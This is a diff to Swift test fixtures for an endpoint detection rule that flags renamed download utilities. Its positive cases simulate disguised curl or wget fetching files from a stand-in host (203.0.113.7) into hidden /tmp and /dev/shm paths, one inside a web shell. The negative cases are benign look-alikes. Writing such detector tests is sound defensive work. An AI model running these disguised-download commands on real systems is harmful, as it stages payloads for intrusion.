@@ -137,12 +137,38 @@ extension Fixtures {
 
         RuleFixture("renamed-download-utility",
             positives: [
-                Case("curl renamed to sysupd", Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "-sSLo", "/tmp/.x", "http://203.0.113.7/a"]), in: Trees.rootLogin).exec()),
-                Case("wget renamed to dbus-launch-helper", Actor(Proc("/usr/lib/dbus-1.0/dbus-launch-helper2", ["dbus-launch-helper2", "-q", "-O", "/dev/shm/p", "https://203.0.113.7/p"], uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
+                Case("curl rebuilt as sysupd fetches into /tmp", {
+                    let a = Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "-sSLo", "/tmp/.x", "http://203.0.113.7/a"]), in: Trees.rootLogin)
+                    return [a.exec(at: 100), a.connect("203.0.113.7", 80, at: 100.2)]
+                }()),
+                Case("wget renamed to dbus-launch-helper2 in a web shell", {
+                    let a = Actor(Proc("/usr/lib/dbus-1.0/dbus-launch-helper2", ["dbus-launch-helper2", "-q", "-O", "/dev/shm/p", "https://203.0.113.7/p"], uid: 33), in: Trees.webShell)
+                    return [a.exec(at: 100, stdin: .fifo, stdout: .fifo), a.connect("203.0.113.7", 443, at: 101)]
+                }(), also: ["service-child-connects-to-internet"]),
+                Case("the fetch is refused (the server is down): still a download attempt", {
+                    let a = Actor(Proc("/home/alice/.cache/upd", ["upd", "-o", "/tmp/.k", "http://127.0.0.1:8080/k"], uid: 1000), in: Trees.userLogin)
+                    return [a.exec(at: 100), a.connect("127.0.0.1", 8080, result: -111, at: 100.1)]
+                }(), also: ["exec-from-staging-location"]),
             ],
             negatives: [
                 Case("real curl", Actor(Proc.line("/usr/bin/curl", "curl -sSLo /tmp/x.tgz https://example.org/x.tgz"), in: Trees.rootLogin).exec()),
                 Case("media tool writing outside scratch", Actor(Proc.line("/usr/bin/ffmpeg", "ffmpeg -i http://cam.local/stream -o /srv/rec/out.mp4"), in: Trees.rootLogin).exec()),
+                Case("clang -cc1as of a compiler build: a URL in the producer string, an object in /tmp, no network", {
+                    let make = Proc.line("/usr/bin/make", "make -j2", uid: 1000)
+                    let driver = Proc.line("/usr/lib/llvm-21/bin/clang", "/usr/lib/llvm-21/bin/clang -c -o build/crt.o src/crt.S", uid: 1000)
+                    let as1 = Proc("/usr/lib/llvm-21/bin/clang-21", ["/usr/lib/llvm-21/bin/clang-21", "-cc1as", "-triple", "x86_64-pc-linux-gnu",
+                        "-filetype", "obj", "-main-file-name", "crt.S", "-target-cpu", "x86-64", "-dwarf-version=5",
+                        "-dwarf-debug-producer", "clang version 21.1.2 (https://github.com/llvm/llvm-project.git 8a3bc1e)",
+                        "-I", "src/include", "-o", "/tmp/crt-5d1a2b.o", "/tmp/crt-9c0e11.s"], uid: 1000)
+                    let tree = Trees.userLogin.spawning(make).spawning(driver)
+                    let a = Actor(as1, in: tree)
+                    return [a.exec(at: 100), a.file(.create, "/tmp/crt-5d1a2b.o", at: 100.1)]
+                }()),
+                Case("a renamed-looking helper that never touches the network", Actor(Proc("/opt/tools/mirror-sync", ["mirror-sync", "--output", "/tmp/sync.log", "https://mirror.example.org/debian"]), in: Trees.rootLogin).exec()),
+                Case("a connect by the same binary name from another process", [
+                    Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "-o", "/tmp/.x", "http://203.0.113.7/a"], pid: 4100), in: Trees.rootLogin).exec(at: 100),
+                    Actor(Proc("/usr/local/bin/sysupd", ["sysupd", "--status"], pid: 4101), in: Trees.rootLogin).connect("203.0.113.7", 80, at: 100.5),
+                ]),
             ]),
 
         RuleFixture("aslr-disabled",
